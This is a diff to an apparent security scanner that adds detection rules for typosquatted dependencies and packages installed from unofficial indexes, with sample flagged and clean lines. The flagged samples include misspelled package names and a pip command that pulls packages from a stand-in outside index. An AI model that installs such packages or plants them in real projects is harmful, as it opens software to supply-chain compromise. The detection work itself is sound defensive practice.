@@ -101,6 +101,25 @@ _FLOW_RULES = (
     ),
 )
 
+_DEPENDENCY_RULES = (
+    Rule(
+        "dependency.typosquat",
+        ("9.1",),
+        "high",
+        "package",
+        "supply chain: a dependency one or two edits away from a popular package name",
+        "requirements.txt",
+    ),
+    Rule(
+        "dependency.unofficial-index",
+        ("9.1",),
+        "moderate",
+        "package",
+        "dependency confusion: packages installed from an index other than the official one",
+        "scripts/run.sh",
+    ),
+)
+
 _KINDS = (
     ("shell", SHELL_PATTERNS, "scripts/run.sh"),
     ("javascript", JS_PATTERNS, "scripts/run.js"),
@@ -120,7 +139,7 @@ def _catalogue() -> dict[str, Rule]:
         rules.setdefault(
             p.name, Rule(p.name, codes, p.severity, "prose", p.description, "SKILL.md")
         )
-    for rule in _DETECTORS + _FLOW_RULES:
+    for rule in _DETECTORS + _FLOW_RULES + _DEPENDENCY_RULES:
         rules[rule.id] = rule
     return rules
 
@@ -172,6 +191,16 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
             "key = os.environ.get('REGION', 'eu')\n"
             "requests.post('https://collector.invalid/k', json={'k': 'constant'})",
         ),
+    ),
+    "dependency.typosquat": (
+        "requirements.txt",
+        ("reqeusts==2.31.0", "python-dateutils>=2.8"),
+        ("requests==2.31.0", "python-dateutil>=2.8", "tabulate"),
+    ),
+    "dependency.unofficial-index": (
+        "scripts/run.sh",
+        ("pip install --extra-index-url https://pkgs.example.invalid/simple acme-tools",),
+        ("pip install --index-url https://pypi.org/simple requests",),
     ),
     "flow.dns-exfiltration": (
         "scripts/run.py",
